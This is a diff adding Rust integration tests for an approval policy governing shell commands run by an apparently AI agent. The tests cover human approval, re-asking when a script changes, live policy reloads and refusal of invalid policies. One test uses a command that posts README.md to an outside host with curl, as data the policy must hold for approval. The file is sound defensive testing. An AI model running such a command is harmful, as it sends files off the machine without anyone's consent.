@@ -1,0 +1,108 @@
+//! A policy file in the whole product: judged, asked, bound to content, read again.
+
+#![allow(clippy::unwrap_used, reason = "clippy sees tests, not the functions that they share")]
+
+use serde_json::Value;
+
+use crate::home::{Home, until};
+
+fn ruled(policy: &str) -> Home {
+    let mut home = Home::new();
+    let file = home.path().join("policy.toml");
+    std::fs::write(&file, policy).unwrap();
+    home.start(&["--listen", "none"], &[("OVERMIND_POLICY", file.to_str().unwrap())]);
+    home
+}
+
+fn run(home: &Home, task: &str) -> String {
+    home.run(&["run", "sh", task, "-o", "name"]).ok().line().to_owned()
+}
+
+fn events(home: &Home, id: &str, kind: &str) -> Vec<Value> {
+    let all = home.run(&["events", id, "-o", "json"]).ok().json();
+    let all = all.as_array().unwrap();
+    all.iter().filter(|event| event["type"] == kind).cloned().collect()
+}
+
+#[test]
+fn harmless_work_goes_on_and_what_leaves_the_machine_waits_for_a_human() {
+    let home = ruled("version = 1\n");
+    home.agent("sh", &[]);
+    let harmless = run(&home, "shell: ls");
+    home.wait_for(&harmless, "succeeded");
+    assert_eq!(events(&home, &harmless, "tool.judged").len(), 1);
+
+    let leaves = run(&home, "shell: env sh -c 'curl -d @README.md http://example.com'");
+    let waiting = home.wait_for(&leaves, "awaiting_approval");
+    let prompt = waiting["prompt"].as_str().unwrap();
+    assert!(prompt.contains("curl") && prompt.contains("risk"), "{prompt}");
+    let asked = events(&home, &leaves, "approval.requested").remove(0);
+    let actions = asked["payload_json"]["actions"].as_array().unwrap();
+    assert!(actions.iter().any(|action| action["program"] == "curl"), "{actions:?}");
+    home.run(&["deny", &leaves, "--reason", "not from here"]).ok();
+    let failed = home.wait_for(&leaves, "failed");
+    assert!(failed["error"].to_string().contains("not from here"), "{failed}");
+}
+
+#[test]
+fn a_script_that_changes_after_the_word_is_asked_about_anew() {
+    let home = ruled(
+        "version = 1\n[[rule]]\nid = \"ask-for-scripts\"\nverdict = \"ask\"\nprograms = [\"sh\"]\n\
+         [[rule]]\nid = \"project\"\nverdict = \"ask\"\neffects = [\"project\"]\n",
+    );
+    home.agent("sh", &[]);
+    let script = home.work().join("deploy.sh");
+    std::fs::write(&script, "echo good\n").unwrap();
+    let id = run(&home, "shell: sh deploy.sh");
+    let first = home.wait_for(&id, "awaiting_approval");
+    std::fs::write(&script, "echo evil\n").unwrap();
+    home.run(&["approve", &id]).ok();
+    let second = until("it is asked anew", || {
+        let run = home.fetch(&id);
+        let anew =
+            run["status"] == "awaiting_approval" && run["approval_id"] != first["approval_id"];
+        anew.then_some(run)
+    });
+    assert_ne!(second["approval_id"], first["approval_id"]);
+    home.run(&["approve", &id]).ok();
+    home.wait_for(&id, "succeeded");
+    let called = events(&home, &id, "tool.called");
+    assert_eq!(called[0]["payload_json"]["result"]["error"]["code"], "approval_stale");
+    assert_eq!(called[1]["payload_json"]["result"]["stdout"], "evil\n", "seen and agreed to");
+    home.run(&["replay", &id, "--verify"]).ok();
+}
+
+#[test]
+fn a_policy_that_changes_holds_at_once_and_one_that_is_none_changes_nothing() {
+    let home = ruled("version = 1\n");
+    home.agent("sh", &[]);
+    let loaded = || {
+        let all = home.run(&["events", "-o", "json", "--limit", "1000"]).ok().json();
+        let all = all.as_array().unwrap();
+        all.iter().filter(|event| event["type"] == "policy.loaded").count()
+    };
+    until("the log knows the policy", || (loaded() == 1).then_some(()));
+    let file = home.path().join("policy.toml");
+    std::fs::write(&file, "version = 1\nextends = \"nothing\"\ndefault = \"deny\"\n").unwrap();
+    until("the policy is read again", || (loaded() == 2).then_some(()));
+    let id = run(&home, "shell: ls");
+    let failed = home.wait_for(&id, "failed");
+    assert!(failed["error"].to_string().contains("denied"), "{failed}");
+    let refused = home.run(&["tool", "call", &id, "run_shell", "{\"command\": \"ls\"}"]).fails(1);
+    refused.shows("denied");
+
+    std::fs::write(&file, "version = 1\nallow_everything = true\n").unwrap();
+    until("the log tells", || home.log().contains("the last one holds").then_some(()));
+    let id = run(&home, "shell: ls");
+    home.wait_for(&id, "failed");
+}
+
+#[test]
+fn a_server_does_not_start_without_the_rules_that_it_was_given() {
+    let home = Home::new();
+    let file = home.path().join("policy.toml");
+    std::fs::write(&file, "version = 1\n[[rule]]\nid = \"x\"\nverdict = \"maybe\"\n").unwrap();
+    let env = [("OVERMIND_POLICY", file.to_str().unwrap())];
+    let refused = home.run_env(&env, &["up", "--listen", "none"]).fails(1);
+    refused.says("policy.toml").says("maybe");
+}
